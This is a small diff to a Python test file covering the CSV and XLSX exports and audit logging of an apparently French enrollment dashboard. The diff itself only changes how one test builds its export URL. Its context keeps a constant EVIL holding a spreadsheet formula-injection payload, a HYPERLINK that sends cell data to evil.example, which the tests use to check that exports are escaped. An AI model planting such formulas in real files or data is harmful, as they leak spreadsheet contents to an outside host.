@@ -12,7 +12,7 @@ from stages.enrollment.models import EnrollmentStatus, MeasureStatus
 from stages.extensions import db
 from stages.reports import views
 from stages.timeutil import today_local
-from tests.helpers import login
+from tests.helpers import login, search
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
 
@@ -97,7 +97,8 @@ def test_xlsx_opens_escaped_and_scoped(client, world):
 
 def test_every_export_writes_one_audit_entry_without_personal_data(client, world):
     login(client, world.liaison_a)
-    client.get("/tableau-de-bord/export.csv?q=alpha")
+    searched = search(client, "/tableau-de-bord", "alpha")
+    client.get(searched.replace("/tableau-de-bord?", "/tableau-de-bord/export.csv?"))
     client.get("/tableau-de-bord/export.xlsx")
     entries = _exports()
     assert [e.details for e in entries] == [
